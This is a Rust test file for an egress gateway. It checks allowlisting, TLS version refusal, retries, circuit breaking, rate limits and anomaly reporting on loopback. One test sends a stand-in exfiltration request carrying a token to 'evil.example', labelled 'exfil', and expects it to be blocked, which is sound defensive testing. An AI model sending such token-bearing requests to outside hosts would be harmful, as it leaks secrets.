//! Policy and resilience over real TLS on loopback.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use stockade_core::{Environment, SecretString};
use stockade_egress::{
    AnomalyKind, Caller, EgressConfig, EgressError, Gateway, Request, StatusCode,
};

use crate::harness::{Pki, TestServer, config, gateway, require_tool};

fn caller() -> Caller {
    Caller::Connection("shop-1".into())
}

#[tokio::test]
async fn allowlist_is_default_deny_and_narrowed_per_caller() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();

    // Nothing configured: even a caller naming the host is refused.
    let g = gateway(config(&pki, &[]));
    let err = g
        .client(caller(), &[host.as_str()])
        .send(Request::get(srv.url("/ok"), "/ok", "ok"))
        .await
        .unwrap_err();
    assert!(
        matches!(&err, EgressError::Blocked { host: h } if *h == host),
        "{err:?}"
    );

    // Allowed for the environment, but the caller did not ask for it.
    let g = gateway(config(&pki, std::slice::from_ref(&host)));
    for hosts in [&[][..], &["api.ebay.com"][..], &["127.0.0.1"][..]] {
        let err = g
            .client(Caller::Workflow("sync".into()), hosts)
            .send(Request::get(srv.url("/ok"), "/ok", "ok"))
            .await
            .unwrap_err();
        assert!(
            matches!(err, EgressError::Blocked { .. }),
            "{hosts:?}: {err:?}"
        );
    }
    // A caller may not widen the environment's list.
    let err = g
        .client(caller(), &[host.as_str(), "example.com"])
        .send(Request::get("https://example.com/", "/", "x"))
        .await
        .unwrap_err();
    assert!(matches!(err, EgressError::Blocked { .. }), "{err:?}");
    assert_eq!(srv.hits().len(), 0);

    // Allowed by both.
    let ok = g
        .client(caller(), &[host.as_str()])
        .send(Request::get(srv.url("/ok"), "/ok", "ok"))
        .await
        .unwrap();
    assert_eq!(ok.status, StatusCode::OK);
    assert_eq!(ok.attempts, 1);
    assert_eq!(ok.json::<serde_json::Value>().unwrap()["ok"], true);
    assert_eq!(srv.hits().len(), 1);

    // Plain HTTP and broken URLs are refused whatever the allowlist says.
    let c = g.client(caller(), &[host.as_str()]);
    let err = c
        .send(Request::get(format!("http://{host}/ok"), "/ok", "ok"))
        .await
        .unwrap_err();
    assert!(matches!(err, EgressError::NotHttps), "{err:?}");
    let err = c
        .send(Request::get("::not a url", "/", "x"))
        .await
        .unwrap_err();
    assert!(matches!(err, EgressError::InvalidUrl), "{err:?}");
    assert_eq!(srv.hits().len(), 1);
}

#[tokio::test]
async fn a_blocked_host_never_sees_a_packet() {
    let pki = Pki::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let g = gateway(config(&pki, &["127.0.0.1:1".to_owned()]));
    let c = g.client(caller(), &["127.0.0.1:1", "localhost"]);
    for url in [
        format!("https://127.0.0.1:{port}/orders?token=x"),
        format!("https://localhost:{port}/orders"),
        format!("http://127.0.0.1:{port}/orders"),
    ] {
        let err = c
            .send(Request::get(url, "/orders", "listOrders"))
            .await
            .unwrap_err();
        assert!(
            matches!(err, EgressError::Blocked { .. } | EgressError::NotHttps),
            "{err:?}"
        );
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the blocked host saw a connection: {other:?}"),
    }
}

struct Openssl(Child);

impl Drop for Openssl {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[tokio::test]
async fn a_tls_1_1_only_server_is_refused() {
    if !require_tool("openssl", "openssl", "the TLS 1.1 refusal check") {
        return;
    }
    let pki = Pki::new();
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut child = Command::new("openssl")
        .args([
            "s_server",
            "-tls1_1",
            "-cipher",
            "DEFAULT:@SECLEVEL=0",
            "-www",
        ])
        .args(["-accept", &format!("127.0.0.1:{port}")])
        .arg("-cert")
        .arg(pki.dir.join("cert.pem"))
        .arg("-key")
        .arg(pki.dir.join("key.pem"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("openssl must be installed");
    let stdout = child.stdout.take().unwrap();
    let _guard = Openssl(child);
    let ready = tokio::task::spawn_blocking(move || {
        let mut lines = BufReader::new(stdout).lines();
        lines.any(|l| l.map(|l| l.contains("ACCEPT")).unwrap_or(false))
    })
    .await
    .unwrap();
    assert!(ready, "openssl s_server did not start");

    let host = format!("127.0.0.1:{port}");
    let g = gateway(config(&pki, std::slice::from_ref(&host)));
    let mut anomalies = g.subscribe();
    let err = g
        .client(caller(), &[host.as_str()])
        .send(Request::get(format!("https://{host}/"), "/", "probe"))
        .await
        .unwrap_err();
    assert!(matches!(err, EgressError::Tls(_)), "{err:?}");
    let a = anomalies.recv().await.unwrap();
    assert_eq!(a.kind, AnomalyKind::Transport);
}

#[tokio::test]
async fn a_tls_1_2_server_is_accepted_and_extra_roots_are_needed() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start_with(pki.clone(), &[&rustls::version::TLS12]).await;
    let host = srv.host();
    let g = gateway(config(&pki, std::slice::from_ref(&host)));
    let r = g
        .client(caller(), &[host.as_str()])
        .send(Request::get(srv.url("/ok"), "/ok", "ok"))
        .await
        .unwrap();
    assert_eq!(r.status, StatusCode::OK);

    // Without the test CA configured, the server's certificate is not trusted.
    let mut c = config(&pki, std::slice::from_ref(&host));
    c.extra_root_pems.clear();
    let err = gateway(c)
        .client(caller(), &[host.as_str()])
        .send(Request::get(srv.url("/ok"), "/ok", "ok"))
        .await
        .unwrap_err();
    assert!(matches!(err, EgressError::Tls(_)), "{err:?}");

    // A broken extra root is a configuration error.
    let mut c = config(&pki, &[]);
    c.extra_root_pems = vec!["not a certificate".into()];
    assert!(matches!(Gateway::new(c, None), Err(EgressError::Tls(_))));
}

#[tokio::test]
async fn throttling_honours_retry_after_for_every_method() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();
    let g = gateway(config(&pki, std::slice::from_ref(&host)));
    let c = g.client(caller(), &[host.as_str()]);

    let t = Instant::now();
    let r = c
        .send(Request::get(srv.url("/throttle/1/get"), "/throttle", "t"))
        .await
        .unwrap();
    assert_eq!((r.status, r.attempts), (StatusCode::OK, 2));
    assert!(
        t.elapsed() >= Duration::from_millis(950),
        "{:?}",
        t.elapsed()
    );

    // 429 means "not processed": even a POST is sent again.
    let r = c
        .send(Request::post(srv.url("/throttle/1/post"), "/throttle", "t").json(&[1, 2]))
        .await
        .unwrap();
    assert_eq!((r.status, r.attempts), (StatusCode::OK, 2));
    let posts: Vec<_> = srv
        .hits()
        .into_iter()
        .filter(|h| h.path == "/throttle/1/post")
        .collect();
    assert_eq!(posts.len(), 2);
    assert!(posts.iter().all(|h| h.body == b"[1,2]"));

    // Retry-After is capped by backoff_max.
    let mut cfg = config(&pki, std::slice::from_ref(&host));
    cfg.backoff_max = Duration::from_millis(100);
    let g2 = gateway(cfg);
    let t = Instant::now();
    let r = g2
        .client(caller(), &[host.as_str()])
        .send(Request::get(
            srv.url("/throttle/2/capped"),
            "/throttle",
            "t",
        ))
        .await
        .unwrap();
    assert_eq!((r.status, r.attempts), (StatusCode::OK, 3));
    assert!(
        t.elapsed() < Duration::from_millis(900),
        "{:?}",
        t.elapsed()
    );

    // After max_attempts the last response comes back as a response.
    let mut cfg = config(&pki, std::slice::from_ref(&host));
    cfg.backoff_max = Duration::from_millis(10);
    cfg.max_attempts = 3;
    let r = gateway(cfg)
        .client(caller(), &[host.as_str()])
        .send(Request::get(srv.url("/throttle/9/last"), "/throttle", "t"))
        .await
        .unwrap();
    assert_eq!((r.status, r.attempts), (StatusCode::TOO_MANY_REQUESTS, 3));
    assert_eq!(srv.hits_on("/throttle/9/last"), 3);
}

#[tokio::test]
async fn server_errors_are_retried_only_when_idempotent() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();
    let mut cfg = config(&pki, std::slice::from_ref(&host));
    cfg.breaker_failures = 100;
    let g = gateway(cfg);
    let c = g.client(caller(), &[host.as_str()]);

    let r = c
        .send(Request::get(srv.url("/status/503/get"), "/status", "s"))
        .await
        .unwrap();
    assert_eq!((r.status, r.attempts), (StatusCode::SERVICE_UNAVAILABLE, 4));
    assert_eq!(srv.hits_on("/status/503/get"), 4);

    let r = c
        .send(Request::post(srv.url("/status/503/post"), "/status", "s"))
        .await
        .unwrap();
    assert_eq!((r.status, r.attempts), (StatusCode::SERVICE_UNAVAILABLE, 1));
    assert_eq!(srv.hits_on("/status/503/post"), 1);

    let r = c
        .send(Request::post(srv.url("/status/500/idem"), "/status", "s").idempotent(true))
        .await
        .unwrap();
    assert_eq!(r.attempts, 4);

    // 4xx other than 429 is final at once.
    let r = c
        .send(Request::get(srv.url("/status/404/x"), "/status", "s"))
        .await
        .unwrap();
    assert_eq!((r.status, r.attempts), (StatusCode::NOT_FOUND, 1));

    // Timeouts: retried for GET, not for POST.
    let r = c
        .send(Request::get(srv.url("/slow"), "/slow", "slow").timeout(Duration::from_millis(150)))
        .await
        .unwrap_err();
    assert!(matches!(r, EgressError::Timeout), "{r:?}");
    assert_eq!(srv.hits_on("/slow"), 4);
    let r = c
        .send(Request::post(srv.url("/slow"), "/slow", "slow").timeout(Duration::from_millis(150)))
        .await
        .unwrap_err();
    assert!(matches!(r, EgressError::Timeout), "{r:?}");
    assert_eq!(srv.hits_on("/slow"), 5);
}

#[tokio::test]
async fn the_circuit_opens_and_recovers() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();
    let mut cfg = config(&pki, std::slice::from_ref(&host));
    cfg.breaker_failures = 3;
    cfg.breaker_cooldown = Duration::from_millis(400);
    cfg.max_attempts = 1;
    let g = gateway(cfg);
    let c = g.client(caller(), &[host.as_str()]);
    let get = |p: &str| Request::get(srv.url(p), "/p", "p");

    for _ in 0..3 {
        assert_eq!(c.send(get("/status/500")).await.unwrap().status, 500);
    }
    let err = c.send(get("/ok")).await.unwrap_err();
    assert!(
        matches!(&err, EgressError::CircuitOpen { host: h } if *h == host),
        "{err:?}"
    );
    assert_eq!(srv.hits_on("/ok"), 0, "nothing is sent while open");

    // After the cool-down one probe goes; it fails, so the circuit opens again.
    tokio::time::sleep(Duration::from_millis(450)).await;
    assert_eq!(c.send(get("/status/502")).await.unwrap().status, 502);
    assert!(matches!(
        c.send(get("/ok")).await,
        Err(EgressError::CircuitOpen { .. })
    ));

    // A successful probe closes it.
    tokio::time::sleep(Duration::from_millis(450)).await;
    assert_eq!(c.send(get("/ok")).await.unwrap().status, 200);
    assert_eq!(c.send(get("/ok")).await.unwrap().status, 200);
    assert_eq!(srv.hits_on("/ok"), 2);

    // Another host is unaffected by this host's breaker (it is simply not allowed here).
    let mut cfg2 = config(&pki, std::slice::from_ref(&host));
    cfg2.breaker_failures = 1;
    cfg2.max_attempts = 1;
    let g2 = gateway(cfg2);
    let c2 = g2.client(caller(), &[host.as_str()]);
    assert_eq!(c2.send(get("/status/500")).await.unwrap().status, 500);
    assert!(matches!(
        c2.send(get("/ok")).await,
        Err(EgressError::CircuitOpen { .. })
    ));
    assert_eq!(
        c.send(get("/ok")).await.unwrap().status,
        200,
        "breakers are per gateway"
    );
}

#[tokio::test]
async fn rate_buckets_space_requests_per_operation_and_partition() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();
    let g = gateway(config(&pki, std::slice::from_ref(&host)));
    g.define_limit("spaced", 10.0, 1);
    let c = g.client(caller(), &[host.as_str()]);
    let req = |part: &str| Request::get(srv.url("/ok"), "/ok", "spaced").partition(part);

    let t = Instant::now();
    for _ in 0..4 {
        c.send(req("seller-a")).await.unwrap();
    }
    let spaced = t.elapsed();
    assert!(spaced >= Duration::from_millis(290), "{spaced:?}");
    // Another partition has its own bucket.
    let t = Instant::now();
    c.send(req("seller-b")).await.unwrap();
    assert!(t.elapsed() < Duration::from_millis(90), "{:?}", t.elapsed());
    // Other operations are not limited.
    let t = Instant::now();
    for _ in 0..4 {
        c.send(Request::get(srv.url("/ok"), "/ok", "free"))
            .await
            .unwrap();
    }
    assert!(
        t.elapsed() < Duration::from_millis(250),
        "{:?}",
        t.elapsed()
    );

    // The per-host bucket.
    let mut cfg = config(&pki, std::slice::from_ref(&host));
    cfg.host_rate = (20.0, 1);
    let g = gateway(cfg);
    let c = g.client(caller(), &[host.as_str()]);
    let t = Instant::now();
    for _ in 0..4 {
        c.send(Request::get(srv.url("/ok"), "/ok", "free"))
            .await
            .unwrap();
    }
    assert!(
        t.elapsed() >= Duration::from_millis(140),
        "{:?}",
        t.elapsed()
    );
}

#[tokio::test]
async fn daily_quotas_count_per_key() {
    let pki = Pki::new();
    let g = gateway(config(&pki, &[]));
    for _ in 0..250 {
        assert!(g.take_daily("ebay.listing_revisions", "sku-1", 250));
    }
    assert!(!g.take_daily("ebay.listing_revisions", "sku-1", 250));
    assert!(g.take_daily("ebay.listing_revisions", "sku-2", 250));
}

#[tokio::test]
async fn responses_are_size_limited() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();
    let mut cfg = config(&pki, std::slice::from_ref(&host));
    cfg.max_response_bytes = 1000;
    let g = gateway(cfg);
    let mut anomalies = g.subscribe();
    let c = g.client(caller(), &[host.as_str()]);
    let r = c
        .send(Request::get(srv.url("/big/1000"), "/big", "big"))
        .await
        .unwrap();
    assert_eq!(r.body.len(), 1000);
    let err = c
        .send(Request::get(srv.url("/big/1001"), "/big", "big"))
        .await
        .unwrap_err();
    assert!(
        matches!(err, EgressError::ResponseTooLarge { limit: 1000 }),
        "{err:?}"
    );
    assert_eq!(
        srv.hits_on("/big/1001"),
        1,
        "an oversized response is not retried"
    );
    let a = anomalies.recv().await.unwrap();
    assert_eq!((a.kind, a.status), (AnomalyKind::Transport, Some(200)));
}

#[tokio::test]
async fn anomalies_are_broadcast_for_final_failures() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();
    let closed_port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let closed = format!("127.0.0.1:{closed_port}");
    let mut cfg = config(&pki, &[host.clone(), closed.clone()]);
    cfg.max_attempts = 2;
    let g = gateway(cfg);
    let mut rx = g.subscribe();
    let c = g.client(
        Caller::Workflow("nightly".into()),
        &[host.as_str(), closed.as_str()],
    );

    c.send(Request::get(srv.url("/ok"), "/ok", "ok"))
        .await
        .unwrap();
    let _ = c
        .send(Request::get(
            "https://evil.example/x?token=1",
            "/x",
            "exfil",
        ))
        .await;
    c.send(Request::get(srv.url("/status/404"), "/status/{code}", "s"))
        .await
        .unwrap();
    c.send(Request::get(srv.url("/status/500"), "/status/{code}", "s"))
        .await
        .unwrap();
    let err = c
        .send(Request::get(format!("https://{closed}/"), "/", "down"))
        .await
        .unwrap_err();
    assert!(matches!(err, EgressError::Connect(_)), "{err:?}");
    assert!(!err.to_string().contains("https://"), "{err}");
    // A 200 that is not the promised JSON: returned, and recorded as malformed.
    let html = c
        .send(Request::get(srv.url("/html"), "/html", "page").expect_json(true))
        .await
        .unwrap();
    assert_eq!(html.status, 200);
    // The same answer when JSON was not promised is not an anomaly.
    c.send(Request::get(srv.url("/html"), "/html", "page"))
        .await
        .unwrap();

    let mut got = Vec::new();
    for _ in 0..5 {
        got.push(
            tokio::time::timeout(Duration::from_secs(5), rx.recv())
                .await
                .unwrap()
                .unwrap(),
        );
    }
    assert!(
        rx.try_recv().is_err(),
        "one anomaly per final failure, none for success"
    );
    let kinds: Vec<_> = got.iter().map(|a| (a.kind, a.status)).collect();
    assert_eq!(
        kinds,
        vec![
            (AnomalyKind::Blocked, None),
            (AnomalyKind::ClientError, Some(404)),
            (AnomalyKind::ServerError, Some(500)),
            (AnomalyKind::Transport, None),
            (AnomalyKind::Malformed, Some(200)),
        ]
    );
    assert_eq!(got[0].host, "evil.example");
    assert_eq!(got[0].path_template, "/x");
    assert_eq!(got[0].operation, "exfil");
    assert!(
        got.iter()
            .all(|a| a.caller == "workflow:nightly" && a.method == "GET")
    );
    assert_eq!(got[2].path_template, "/status/{code}");
}

#[tokio::test]
async fn headers_bodies_and_queries_reach_the_server() {
    let pki = Arc::new(Pki::new());
    let srv = TestServer::start(pki.clone()).await;
    let host = srv.host();
    let g = gateway(config(&pki, std::slice::from_ref(&host)));
    let c = g.client(Caller::Sandbox, &[host.as_str()]);
    assert_eq!(c.caller(), &Caller::Sandbox);
    let token = SecretString::from("Bearer t0k3n".to_owned());
    c.send(
        Request::post(srv.url("/ok/form?a=1&b=x%20y"), "/ok/form", "form")
            .secret_header("authorization", &token)
            .header("x-amz-date", "20260101T000000Z")
            .form(&[("grant_type", "refresh_token"), ("x", "a b&c")]),
    )
    .await
    .unwrap();
    let hit = srv.hits().pop().unwrap();
    assert_eq!(hit.method, "POST");
    assert_eq!(hit.query.as_deref(), Some("a=1&b=x%20y"));
    assert_eq!(hit.headers["authorization"], "Bearer t0k3n");
    assert_eq!(hit.headers["x-amz-date"], "20260101T000000Z");
    assert_eq!(
        hit.headers["content-type"],
        "application/x-www-form-urlencoded"
    );
    assert_eq!(hit.body, b"grant_type=refresh_token&x=a+b%26c");

    // Redirects are not followed.
    let r = c
        .send(Request::get(srv.url("/redirect"), "/redirect", "r"))
        .await
        .unwrap();
    assert_eq!(r.status, StatusCode::FOUND);
    assert_eq!(srv.hits_on("/ok"), 0);
    assert_eq!(EgressConfig::new(Environment::Dev).max_attempts, 4);
}
